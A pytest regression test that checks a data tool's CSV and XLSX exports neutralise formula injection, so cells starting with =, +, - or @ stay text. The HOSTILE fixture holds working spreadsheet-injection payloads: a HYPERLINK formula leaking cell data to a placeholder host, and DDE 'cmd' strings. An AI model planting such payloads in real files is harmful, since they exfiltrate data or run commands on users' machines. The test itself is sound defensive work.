"""Issue 23 item 3: a name, unit or source starting with ``=``, ``+``, ``-`` or ``@`` reached
the CSV raw and became a real formula cell in the XLSX metadata sheet, from the CLI and from
``/explore``. Now such text is written as text in every export, read back here with csv and
openpyxl as a spreadsheet would."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from typer.testing import CliRunner

from warroom.app import create_app
from warroom.app.context import app_context
from warroom.app.explore import downloads
from warroom.app.explore.state import read_query
from warroom.cli import app as cli_app
from warroom.config import get_settings
from warroom.export.cells import FORMULA_STARTS
from warroom.export.formats import by_key
from warroom.intake.declare import IndicatorSpec

pytestmark = pytest.mark.slow  # seconds a test: the whole real store (app, CLI)

HOSTILE = {
    "name_th": '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"ผู้สูงอายุ")',
    "name_en": "+cmd|' /C calc'!A0",
    "unit": "-2+3",
    "unit_th": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "\t=1+1 กรมกิจการผู้สูงอายุ",
}
SPEC = IndicatorSpec.model_validate(
    {"id": "moi.inject", "direction": "neutral", "rollup": "sum", "sdg": "3", **HOSTILE}
)
TABLE = "จังหวัด,ปี,จำนวน\nเชียงใหม่,2566,100\nลำพูน,2566,50\nลำปาง,2566,70\n"


@pytest.fixture(scope="module")
def hostile(built, tmp_path_factory):
    from tests.helpers import store_with_indicator

    folder = tmp_path_factory.mktemp("inject")  # a file name is text in `batches list` too
    return store_with_indicator(built[0], folder, SPEC, TABLE, "=HYPERLINK(1).csv")


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def assert_csv_safe(body: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if formula_like(c)] == []  # none a spreadsheet would run
    return rows


def assert_xlsx_safe(body: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(str(cell.value)):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)  # stays text
                texts.add(str(cell.value))
    return texts


@pytest.fixture
def cli(hostile, monkeypatch):
    monkeypatch.setenv("WARROOM_BUILD_DIR", str(hostile.build_dir))
    monkeypatch.setenv("WARROOM_SOURCE_DIR", str(hostile.source_dir))
    get_settings.cache_clear()
    yield lambda *args: CliRunner().invoke(cli_app, list(args))
    get_settings.cache_clear()


def test_cli_exports_write_formulas_as_text(cli, tmp_path):
    out = tmp_path / "table.csv"
    args = ["export", "table", "--indicator", SPEC.id, "--level", "province"]
    result = cli(*args, "--period", "2023", "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    rows = assert_csv_safe(out.read_bytes())
    assert "'" + HOSTILE["unit"] in rows[1]  # kept, readable, as text
    xlsx = tmp_path / "table.xlsx"
    result = cli(*args, "--period", "2023", "--format", "xlsx", "--output", str(xlsx))
    assert result.exit_code == 0, result.output
    texts = assert_xlsx_safe(xlsx.read_bytes())
    assert {HOSTILE["name_th"], HOSTILE["name_en"]} <= texts  # exactly as written
    added = cli("actions", "agencies", "add", "--name-th", "=1+1", "--name-en", "@SUM(1)")
    assert added.exit_code == 0, added.output
    added = cli("actions", "add", "--area", "TH5001", "--what", HOSTILE["name_th"],
                "--agency", "=1+1", "--due", "2026-03-31",
                "--indicator", "tpmap.target_poor_rate")  # fmt: skip
    assert added.exit_code == 0, added.output
    listings = (
        ["indicators", "--format", "csv"],
        ["batches", "list", "--format", "csv"],
        ["actions", "list", "--format", "csv"],
    )
    for listing in listings:
        result = cli(*listing)
        assert result.exit_code == 0, result.output
        assert_csv_safe(result.stdout.encode())
    result = cli("actions", "list", "--format", "xlsx", "--output", str(xlsx))
    assert result.exit_code == 0, result.output
    assert HOSTILE["name_th"] in assert_xlsx_safe(xlsx.read_bytes())


def test_explore_exports_write_formulas_as_text(hostile):
    app = create_app(hostile)
    with app.server.test_request_context():
        data = app_context().data
        query = f"?x={SPEC.id}&y=tpmap.target_poor_rate&level=province&xperiod=2023"
        state = read_query(query, data, "en")[0]
        assert_csv_safe(downloads.export_file(by_key("csv"), data, state)[1])
        texts = assert_xlsx_safe(downloads.export_file(by_key("xlsx"), data, state)[1])
        assert HOSTILE["name_th"] in texts
